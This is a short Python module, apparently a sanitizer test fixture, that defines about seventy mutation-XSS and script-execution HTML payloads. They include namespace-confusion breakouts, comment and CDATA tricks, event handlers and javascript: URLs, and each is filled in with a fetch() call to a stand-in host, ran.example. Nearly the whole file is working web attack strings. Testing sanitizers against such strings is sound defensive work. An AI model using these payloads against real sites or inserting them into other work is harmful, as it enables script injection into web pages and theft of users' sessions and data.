"""Markup that changes its meaning when it is written and parsed again; each would call RUN."""

RUN = "fetch(`http://ran.example/`)"  #: no space and no quote, so that it needs none around it
MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style>'
    '<img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
    '<math><mtext><table><mglyph><style><math><img src=1 onerror=RUN></style></math>',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>',
    '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
    '<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>',
    '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>',
    '<title><p title="</title><img src=x onerror=RUN>"></title>',
    '<style><p title="</style><img src=x onerror=RUN>"></style>',
    '<svg><style><img src=x onerror=RUN></style></svg>',
    '<svg><style>&lt;img src=x onerror=RUN&gt;</style></svg>',
    '<svg><style><![CDATA[</style><img src=x onerror=RUN>]]></style></svg>',
    '<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror=RUN&gt;</noscript></desc></svg>',
    '<svg><title><style><p id="</style><img src=x onerror=RUN>"></style></title></svg>',
    '<math><annotation-xml encoding="text/html"><style><p id="</style><img src=x onerror=RUN>">',
    '<math><annotation-xml><style><p id="</style><img src=x onerror=RUN>"></annotation-xml></math>',
    '<svg><foreignObject><math><mi><style><p id="</style><img src=x onerror=RUN>">',
    '<plaintext><p title="</plaintext><img src=x onerror=RUN>">',
    '<template><style><p id="</template></style><img src=x onerror=RUN>"></style></template>',
    '<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>',
    '<!--><img src=x onerror=RUN>-->', '<!--!> <img src=x onerror=RUN> -->',
    '<!-- --!><img src=x onerror=RUN> -->', '<![CDATA[<img src=x onerror=RUN>]]>',
    '<?xml ><img src=x onerror=RUN>?>', '<!doctype a "<img src=x onerror=RUN>">',
    '<a href="java&Tab;script:RUN" autofocus onfocus=RUN>x</a>', '<input autofocus onfocus=RUN>',
    '<details open ontoggle=RUN>x</details>', '<svg onload=RUN>', '<svg><animate onbegin=RUN>',
    '<svg><a><animate attributeName=href values=javascript:RUN /><text>x</text></a></svg>',
    '<body/onload=RUN>', '<video><source onerror=RUN></video>', '<audio src=x onerror=RUN>',
    '<img src=x:x ONERROR=RUN>', '<img\x0csrc=x\x0conerror=RUN>', '<img src="x"onerror=RUN>',
    '<object data="javascript:RUN"></object>', '<embed src="data:text/html,<script>RUN</script>">',
    '<iframe src="javascript:RUN">', '<iframe srcdoc="<script>RUN</script>">',
    '<meta http-equiv=refresh content="0;url=javascript:RUN">', '<link rel=import href="data:,x">',
    '<script>RUN</script>', '<svg><script>RUN</script></svg>', '<math><script>RUN</script></math>',
    '<svg><script href="data:,RUN"/></svg>', '<svg><use href="data:image/svg+xml,<svg id=x '
    'xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"/></svg>',
    '<select><template><img src=x onerror=RUN></template></select>', '<frameset onload=RUN>',
    '<table background="javascript:RUN">', '<p style="width:expression(RUN)">x',
    '<isindex action="javascript:RUN" type=image>', '<form action="javascript:RUN"><input></form>',
    '<image src=x onerror=RUN>', '<keygen autofocus onfocus=RUN>', '<marquee onstart=RUN>x',
    '<p title="`onmouseover=RUN">x', "<p title='\"><img src=x onerror=RUN>'>x",
    '<p data-x="&quot;><img src=x onerror=RUN>">x', '<p class="a&#34;><img src=x onerror=RUN>">x',
    '<option><style></option></select><img src=x onerror=RUN></style>',
    '<svg><p><style><g title="</style><img src=x onerror=RUN>">',
    '<math><mi><table><a><b><math><mtext><mglyph><style><img src=x onerror=RUN></style>',
    '<table><colgroup><style><b id="</style><img src=x onerror=RUN>"></style></colgroup></table>',
)  # fmt: skip


def list_mutations() -> list[str]:
    return [one.replace("RUN", RUN) for one in MUTATIONS]
